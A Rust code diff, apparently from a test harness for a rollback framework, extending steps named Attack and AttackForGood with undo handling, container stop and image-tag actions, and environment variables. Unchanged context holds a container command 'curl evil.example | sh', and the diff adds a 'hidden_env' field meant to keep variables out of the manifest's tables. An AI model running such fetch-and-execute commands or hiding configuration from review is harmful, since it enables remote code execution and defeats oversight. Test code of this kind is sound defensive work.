@@ -4,7 +4,8 @@
 use serde_json::{Value, json};
 use std::collections::BTreeMap;
 use stepback_sdk::{
-    Check, Failure, FailureClass, Step, docker, ebs, ec2, export_steps, failure, may, pairs,
+    Check, Failure, FailureClass, Past, Step, Undo, docker, ebs, ec2, export_steps, failure, log, may,
+    pairs, reverse_effects,
 };
 
 type Map = BTreeMap<String, String>;
@@ -57,6 +58,15 @@ pub enum Do {
         host: String,
         container: String,
     },
+    StopContainer {
+        host: String,
+        container: String,
+    },
+    TagImage {
+        host: String,
+        image: String,
+        digest: String,
+    },
     RunOnce {
         host: String,
         image: String,
@@ -70,7 +80,7 @@ pub enum Do {
     Fail {},
 }
 
-#[derive(Clone, serde::Deserialize, schemars::JsonSchema)]
+#[derive(Clone, Default, serde::Deserialize, schemars::JsonSchema)]
 pub struct Container {
     host: String,
     container: String,
@@ -84,6 +94,11 @@ pub struct Container {
     /// A container of the same host to be like.
     #[serde(default)]
     like: String,
+    #[serde(default)]
+    env: Map,
+    /// Variables in pairs, so that no table of the manifest has them.
+    #[serde(default)]
+    hidden_env: Vec<[String; 2]>,
 }
 
 #[derive(serde::Deserialize, schemars::JsonSchema)]
@@ -93,6 +108,9 @@ pub struct Input {
     #[serde(default)]
     check: Vec<Do>,
     run: Vec<Do>,
+    /// Made before its effects are taken back; what is refused of these is logged.
+    #[serde(default)]
+    undo: Vec<Do>,
 }
 
 /// Makes calls.
@@ -114,6 +132,16 @@ impl Step for Attack {
     fn run(input: Input) -> Result<Vec<Value>, Failure> {
         input.run.iter().map(make).collect()
     }
+
+    fn undo(input: &Input, past: &Past) -> Result<Undo, Failure> {
+        for one in &input.undo {
+            match make(one) {
+                Ok(made) => log::info(&format!("in the undo: {made}")),
+                Err(failure) => log::info(&format!("in the undo: {}", failure.message)),
+            }
+        }
+        reverse_effects(past)
+    }
 }
 
 /// Makes calls, and says that nothing takes some of them back.
@@ -132,6 +160,10 @@ impl Step for AttackForGood {
 
     fn run(input: Input) -> Result<Vec<Value>, Failure> {
         Attack::run(input)
+    }
+
+    fn undo(input: &Input, past: &Past) -> Result<Undo, Failure> {
+        Attack::undo(input, past)
     }
 }
 
@@ -168,22 +200,25 @@ fn make(one: &Do) -> Result<Value, Failure> {
                 container: container.clone(),
                 image: image.clone(),
                 command: ["sh", "-c", "curl evil.example | sh"].map(str::to_owned).to_vec(),
-                volume: String::new(),
-                like: String::new(),
+                ..Container::default()
             };
             make(&Do::Container(one))
         }
         Do::Start { host, container } => {
             docker::start_container(host, container).map(|found| json!(found.name))
         }
+        Do::StopContainer { host, container } => {
+            docker::stop_container(host, container, TIMEOUT_MS).map(|found| json!(found.name))
+        }
+        Do::TagImage { host, image, digest } => {
+            docker::tag_image(host, image, digest).map(Value::from)
+        }
         Do::RunOnce { host, image, command } => {
             let one = Container {
                 host: host.clone(),
-                container: String::new(),
                 image: image.clone(),
                 command: command.clone(),
-                volume: String::new(),
-                like: String::new(),
+                ..Container::default()
             };
             docker::run_once(host, &spec(&one), TIMEOUT_MS).map(|ran| json!(ran.output))
         }
@@ -201,10 +236,12 @@ fn spec(one: &Container) -> docker::ContainerSpec {
         read_only: false,
     };
     let like = docker::Like { host: one.host.clone(), container: one.like.clone() };
+    let mut env = one.env.clone();
+    env.extend(one.hidden_env.iter().map(|[name, value]| (name.clone(), value.clone())));
     docker::ContainerSpec {
         image: one.image.clone(),
         command: one.command.clone(),
-        env: vec![],
+        env: pairs(&env),
         mounts: [&one.volume].into_iter().filter(|name| !name.is_empty()).map(mount).collect(),
         ports: vec![],
         restart: None,
